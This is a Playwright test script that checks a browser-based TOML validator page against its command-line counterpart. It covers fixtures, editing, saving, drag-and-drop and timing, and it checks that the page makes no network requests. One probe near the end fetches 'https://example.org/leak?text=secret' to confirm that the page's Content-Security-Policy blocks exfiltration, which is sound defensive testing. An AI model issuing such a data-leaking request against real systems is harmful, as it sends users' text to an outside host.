// The validator page in headless Chromium; run by .ci/browser, which builds the pages into
// WORK/rules/validator.html (tests/fixtures/rules/report.toml) and
// WORK/shipped/validator.html (the shipped report.toml). Fails on the first difference.
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { pathToFileURL } from "node:url";
import { createRequire } from "node:module";

const require = createRequire(import.meta.url);
const { chromium } = require("playwright-core");

const [work, ...flags] = process.argv.slice(2);
const screenshot = flags.includes("--screenshot");
const binary = path.resolve("target/release/consolidate");
const rules = path.resolve("tests/fixtures/rules");
let failures = 0;
const fail = (what) => { failures++; console.error("FAIL " + what); };

function median(values) {
  const sorted = [...values].sort((a, b) => a - b);
  const mid = sorted.length >> 1;
  return sorted.length % 2 ? sorted[mid] : (sorted[mid - 1] + sorted[mid]) / 2;
}

// What `consolidate validate FILE --format json` says; exit code 1 only means errors found.
function cli(root, file) {
  try {
    return JSON.parse(execFileSync(binary, ["--root", root, "validate", "--format", "json", file]));
  } catch (err) {
    if (err.status === 1) return JSON.parse(err.stdout);
    throw err;
  }
}

// Every submission among the rule fixtures; those in folders (rules across files) one by one.
function fixtures() {
  const files = [];
  for (const entry of fs.readdirSync(rules, { withFileTypes: true })) {
    const full = path.join(rules, entry.name);
    if (entry.isDirectory()) {
      for (const inner of fs.readdirSync(full)) files.push(path.join(full, inner));
    } else if (entry.name !== "report.toml") files.push(full);
  }
  return files.sort();
}

const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM || "/usr/bin/chromium",
  args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--disable-sync"],
});
const context = await browser.newContext({ viewport: { width: 1400, height: 1000 } });
const requests = [];
context.on("request", (request) => requests.push(request.url()));
const problems = [];
async function open(file) {
  const page = await context.newPage();
  page.on("console", (m) => { if (m.type() === "error") problems.push(m.text()); });
  page.on("pageerror", (e) => problems.push(String(e)));
  await page.goto(pathToFileURL(file).href);
  await page.waitForFunction(() => !document.getElementById("summary").textContent.startsWith("Loading"));
  return page;
}

// Gives the page a file through its file picker and waits for the check it triggers.
async function feed(page, file) {
  const before = await page.evaluate(() => window.validatorTimings.length);
  await page.setInputFiles("#file", file);
  await page.waitForFunction((n) => window.validatorTimings.length > n, before);
}

// Waits for the check after the host's last keystroke.
async function typed(page, before) {
  await page.waitForFunction((n) => window.validatorTimings.length > n, before);
  await page.waitForTimeout(200);
}

// The problems as the page shows them.
const shown = (page) => page.evaluate(() => ({
  summary: document.getElementById("summary").textContent,
  diagnostics: [...document.querySelectorAll("li.problem")].map((li) => {
    const number = (v) => (v === undefined ? null : Number(v));
    const help = li.querySelector(".help");
    return {
      file: li.dataset.file, severity: li.dataset.severity, code: li.dataset.code,
      line: number(li.dataset.line), column: number(li.dataset.column),
      end_line: number(li.dataset.endLine), end_column: number(li.dataset.endColumn),
      message: li.querySelector(".message").textContent, help: help ? help.textContent : null,
    };
  }),
}));

// The CLI names a file by its path in the project, the page by the name it was given.
// The same fields in the same order on both sides.
const fields = ["file", "severity", "code", "line", "column", "end_line", "end_column", "message", "help"];
const comparable = (d) => Object.fromEntries(fields.map((f) =>
  [f, f === "file" ? path.basename(d.file) : d[f] === undefined ? null : d[f]]));

const rulesPage = await open(path.join(work, "rules/validator.html"));
const all = fixtures();
for (const file of all) {
  const expected = cli(rules, file);
  await feed(rulesPage, file);
  const got = await shown(rulesPage);
  const want = JSON.stringify(expected.diagnostics.map(comparable), null, 1);
  const have = JSON.stringify(got.diagnostics.map(comparable), null, 1);
  const name = path.relative(rules, file);
  if (want !== have) fail(`${name}: the page shows\n${have}\nthe command line says\n${want}`);
  const plural = (n, w) => `${n} ${w}${n === 1 ? "" : "s"}`;
  const counts = `${plural(expected.errors, "error")}, ${plural(expected.warnings, "warning")}.`;
  if (!got.summary.startsWith(counts)) fail(`${name}: summary "${got.summary}", expected "${counts}"`);
  console.log(`ok ${name}: ${expected.diagnostics.map((d) => d.code + ":" + d.line).join(" ") || "clean"}`);
}
console.log(`${all.length} fixtures judged as the command line judges them`);

// Editing: the fixture's unknown key corrected by typing, and the page checks again.
await feed(rulesPage, path.join(rules, "e004-unknown-key.toml"));
const text = await rulesPage.inputValue("#editor");
const at = text.indexOf("stratgies");
await rulesPage.focus("#editor");
await rulesPage.evaluate((i) => document.getElementById("editor").setSelectionRange(i, i + 9), at);
let before = await rulesPage.evaluate(() => window.validatorTimings.length);
await rulesPage.keyboard.type("strategies");
await typed(rulesPage, before);
const edited = await shown(rulesPage);
if (edited.diagnostics.some((d) => d.code === "E004")) fail("typing the right key did not clear E004");
else console.log("ok typing the right key clears E004: " + edited.summary);

// Saving: the download holds the text as edited, under the file's name.
const [download] = await Promise.all([rulesPage.waitForEvent("download"), rulesPage.click("#save")]);
const saved = fs.readFileSync(await download.path(), "utf8");
const inEditor = await rulesPage.inputValue("#editor");
if (saved !== inEditor || download.suggestedFilename() !== "e004-unknown-key.toml" || !saved.includes("strategies =")) {
  fail(`the saved file (${download.suggestedFilename()}) is not the edited text`);
} else console.log("ok the saved file is the edited text, as " + download.suggestedFilename());

// Dropping a file on the page opens it as the picker does.
before = await rulesPage.evaluate(() => window.validatorTimings.length);
const dropped = await rulesPage.evaluateHandle((text) => {
  const transfer = new DataTransfer();
  transfer.items.add(new File([text], "dropped.toml", { type: "application/toml" }));
  return transfer;
}, fs.readFileSync(path.join(rules, "w002-no-strategies.toml"), "utf8"));
await rulesPage.dispatchEvent("body", "drop", { dataTransfer: dropped });
await typed(rulesPage, before);
const afterDrop = await shown(rulesPage);
if (await rulesPage.inputValue("#name") !== "dropped.toml" || afterDrop.diagnostics.map((d) => d.code).join() !== "W002") {
  fail("a dropped file is not opened and checked: " + afterDrop.summary);
} else console.log("ok a dropped file is opened and checked: " + afterDrop.summary);

// The shipped project: a preview once clean, the timings, and three problems for the picture.
const shippedPage = await open(path.join(work, "shipped/validator.html"));
const usCanada = path.resolve("regions/us-canada.toml");
await feed(shippedPage, usCanada);
const expected = cli(path.resolve("."), usCanada);
const previewed = await shippedPage.evaluate(() => ({
  hidden: document.getElementById("preview-section").hidden,
  entries: document.querySelectorAll("#preview li").length,
  labels: [...new Set([...document.querySelectorAll("#preview .label")].map((l) => l.textContent))],
}));
if (expected.errors === 0 && (previewed.hidden || previewed.entries === 0)) fail("no preview of a clean file");
else console.log(`ok preview: ${previewed.entries} entries filed, labelled ${previewed.labels.join(", ")}`);

// Re-checks of the same text, as typing would cause them: the median of the page's own
// performance.now() around the WebAssembly call (and JSON.parse), and around the whole redraw.
async function time(page, runs) {
  const results = [];
  for (let i = 0; i < runs; i++) {
    const n = await page.evaluate(() => window.validatorTimings.length);
    await page.evaluate(() => document.getElementById("editor").dispatchEvent(new Event("input")));
    await page.waitForFunction((k) => window.validatorTimings.length > k, n);
    results.push(await page.evaluate(() => window.validatorTimings.at(-1)));
  }
  return { bytes: results[0].bytes, check: median(results.map((r) => r.check)), render: median(results.map((r) => r.render)) };
}
const shippedTime = await time(shippedPage, 15);

// A 100 KB submission: the shipped one with generated workshops after it.
const big = path.join(work, "hundred-kb.toml");
let bigText = fs.readFileSync(usCanada, "utf8");
const topics = ["recruitment fees", "wage theft", "detention of children", "family reunification",
  "access to health care", "xenophobic violence", "portability of pensions", "trafficking"];
for (let i = 0; bigText.length < 100 * 1024; i++) {
  const topic = topics[i % topics.length];
  bigText += `\n[[workshop]]\ntitle = "Generated workshop ${i} on ${topic}"\nagenda = [${(i % 8) + 1}]\n` +
    `issues = [\n  "Case ${i}: ${topic} harms migrant workers in corridor ${i * 7 % 97} more each year",\n` +
    `  "Report ${i} finds that ${topic} is rarely prosecuted in district ${i * 13 % 101}",\n]\n` +
    `strategies = [\n  "Campaign ${i}: bring ${topic} before labour courts in district ${i * 13 % 101}",\n]\n`;
}
fs.writeFileSync(big, bigText);
await feed(shippedPage, big);
const bigTime = await time(shippedPage, 15);
const bigShown = await shown(shippedPage);
const bigCli = cli(path.resolve("."), big);
if (JSON.stringify(bigShown.diagnostics.map(comparable)) !== JSON.stringify(bigCli.diagnostics.map(comparable))) {
  fail("the 100 KB submission is judged differently from the command line");
}

const three = path.resolve("tests/fixtures/validator/three-problems.toml");
await feed(shippedPage, three);
const threeShown = await shown(shippedPage);
if (threeShown.diagnostics.length !== 3) fail(`three-problems.toml shows ${threeShown.diagnostics.length} problems`);
if (screenshot) {
  await shippedPage.setViewportSize({ width: 1280, height: 860 });
  await shippedPage.screenshot({ path: "docs/validator.png" });
  console.log("wrote docs/validator.png");
}

// Nothing but the pages themselves was requested.
const pages = new Set(["rules", "shipped"].map((d) => pathToFileURL(path.join(work, d, "validator.html")).href));
// (A saved file is a blob: URL, made from memory in the page: no request leaves the browser.)
const local = (url) => pages.has(url) || url.startsWith("blob:");
const other = requests.filter((url) => !local(url));
if (other.length) fail("the page made requests: " + other.join(", "));
else console.log(`ok no request but the ${pages.size} page loads`);

// And the policy holds when something tries: a fetch is refused before it leaves the browser.
const probe = await shippedPage.evaluate(async () => {
  let violated = false;
  document.addEventListener("securitypolicyviolation", () => { violated = true; });
  let refused = false;
  try { await fetch("https://example.org/leak?text=secret"); } catch { refused = true; }
  await new Promise((r) => setTimeout(r, 100));
  return { violated, refused };
});
const probeRequests = requests.filter((url) => !local(url));
if (!probe.refused || !probe.violated || probeRequests.length) fail("a fetch from the page was not refused: " + JSON.stringify(probe));
else console.log("ok a fetch from the page is refused by its Content-Security-Policy");
const unexpected = problems.filter((p) => !p.includes("example.org") && !p.includes("Content Security Policy"));
if (unexpected.length) fail("errors in the page's console: " + unexpected.join("\n"));

const size = fs.statSync(path.join(work, "shipped/validator.html")).size;
console.log(`page: ${size} bytes`);
console.log(`regions/us-canada.toml (${shippedTime.bytes} bytes): check ${shippedTime.check.toFixed(1)} ms, with redraw ${(shippedTime.check + shippedTime.render).toFixed(1)} ms (median of 15)`);
console.log(`100 KB submission (${bigTime.bytes} bytes, ${bigShown.diagnostics.length} problems): check ${bigTime.check.toFixed(1)} ms, with redraw ${(bigTime.check + bigTime.render).toFixed(1)} ms (median of 15)`);
await browser.close();
if (failures) {
  console.error(`${failures} failure(s)`);
  process.exit(1);
}
